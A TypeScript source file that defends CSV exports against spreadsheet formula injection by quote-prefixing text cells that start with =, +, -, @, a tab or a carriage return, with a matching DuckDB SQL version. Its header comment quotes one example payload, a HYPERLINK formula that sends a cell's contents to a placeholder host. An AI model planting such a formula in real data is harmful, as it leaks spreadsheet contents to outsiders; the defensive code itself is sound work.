/*
 * Text that reaches a spreadsheet. A cell that starts with =, +, -, @, a tab
 * or a carriage return is read by Excel, LibreOffice and Google Sheets as a
 * formula (CSV injection: `=HYPERLINK("http://x/?leak="&A1)` in a customer
 * id would run when a marketer opens the file). Every text cell of every CSV
 * fidelio writes is therefore prefixed with a single quote when it starts
 * so (OWASP's rule); numbers are written as numbers, and Parquet and DuckDB
 * keep the values as they are (machines read those).
 */

const FORMULA_START = /^[=+\-@\t\r]/;

/** A text cell a spreadsheet shows as text: `'` prefixed when it starts like a formula. */
export function spreadsheetSafe(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** The characters FORMULA_START matches: =, +, -, @, a tab, a carriage return. */
const FORMULA_FIRST = ['=', '+', '-', '@', '\t', '\r'];

/** The same rule as SQL over a VARCHAR expression (for DuckDB's COPY ... TO csv). */
export const spreadsheetSafeSql = (expr: string): string =>
  `CASE WHEN ${startsLikeFormulaSql(expr)} THEN '''' || ${expr} ELSE ${expr} END`;

/**
 * Whether a VARCHAR expression starts like a formula (FORMULA_START), as SQL: NULL for NULL. The code point of the
 * first character (ord; -1 for '') among FORMULA_FIRST's, not a regular expression nor a prefix test per character:
 * over a million rows of ten text columns, 0.14 s against 0.47 s with six starts_with. A list_contains, not an IN:
 * DuckDB plans this IN of six values as a join with the list, and a COPY whose plan holds a join is written
 * by every thread at once, its rows out of their order (a different order at each write, once the table is more
 * than one row group).
 */
export const startsLikeFormulaSql = (expr: string): string => `list_contains([${FORMULA_FIRST.map((c) => c.codePointAt(0)).join(', ')}], ord(${expr}))`;

/** One CSV line: text made spreadsheet-safe, fields quoted when they hold a quote, a comma or a line break; NULL as empty. */
export function csvLine(values: unknown[]): string {
  return values
    .map((v) => {
      if (v === null || v === undefined) return '';
      const s = typeof v === 'string' ? spreadsheetSafe(v) : String(v);
      // A semicolon too: a spreadsheet in a semicolon locale would split the cell there (and the second part could be a formula).
      return /[",;\n\r]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
    })
    .join(',');
}
